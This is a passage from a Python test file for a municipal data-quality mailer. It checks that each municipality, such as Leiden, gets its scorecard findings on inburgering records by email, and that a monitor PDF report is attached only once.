    kop = {line.split()[0]: line for line in re.findall(r"^  (GM\d{4} [^:]+: score .+)$", card, re.MULTILINE)}
    assert set(kop) >= set(ADRES)
    for code, adres in ADRES.items():
        (mail,) = postbus.voor(adres)
        assert kop[code] in _plat(mail.tekst), code
    # Oegstgeest's failing inburgering checks, as its scorecard counts them, in Leiden's mail
    oeg = card.split("GM0579 Oegstgeest:", 1)[1].split("\n  GM", 1)[0]
    regels = re.findall(r"^\s+(blokkerend|waarschuwing)\s+(.+?)\s+(\d+) van\s+(\d+)$", oeg, re.MULTILINE)
    leiden = _plat(postbus.voor(ADRES[LEIDEN])[0].tekst)
    shown = [
        (e, n, a, g) for e, n, a, g in regels if n != NAAM["tvs_periode_dubbel"]
    ]  # housing: not Leiden's
    # DUO's route and level, a PIP without leerroute, and the begeleiding trajectory dated after
    # its delivery (maatschappelijke begeleiding is inburgering: Leiden executes it for Oegstgeest)
    assert len(shown) == 3
    for ernst, naam, afgekeurd, gecontroleerd in shown:
        assert f"- {naam} ({ernst}): {afgekeurd} van {gecontroleerd} records afgekeurd" in leiden
    assert NAAM["tvs_periode_dubbel"] not in leiden


def test_the_monitor_report_is_attached_when_it_is_new(params, postbus):
    """Leiden's report of the peildatum (as the monitor writes it) goes with its next mail, once."""
    folder = Path(params["home"]) / "monitor" / PEILDATUM
    folder.mkdir(parents=True)
    (folder / f"{LEIDEN}_{PEILDATUM}.pdf").write_bytes(b"%PDF-1.7 monitor Leiden\n%%EOF\n")
    tasks.notify(params, "r1")

    def bijlagen(mail) -> list[tuple[str, str]]:
        return [(p.get_filename(), p.get_content_type()) for p in mail.bericht.iter_attachments()]

    (leiden,) = postbus.voor(ADRES[LEIDEN])
    assert bijlagen(leiden) == [
        (f"bevindingen_{LEIDEN}_{PEILDATUM}.csv", "text/csv"),
        (f"{LEIDEN}_{PEILDATUM}.pdf", "application/pdf"),
    ]
    assert "Ook bijgevoegd: de monitor van peildatum 25-02-2025" in _plat(leiden.tekst)
    assert all(len(bijlagen(m)) == 1 for m in postbus.berichten if m is not leiden)
    # the next mail to Leiden (a new signal) does not carry the same report again
    postbus.berichten.clear()
    _signalen(params["warehouse"], [PIP_TE_LAAT])
    assert tasks.notify(params, "r1")["verzonden"] == 1
    (leiden,) = postbus.berichten
    assert bijlagen(leiden) == [(f"bevindingen_{LEIDEN}_{PEILDATUM}.csv", "text/csv")]
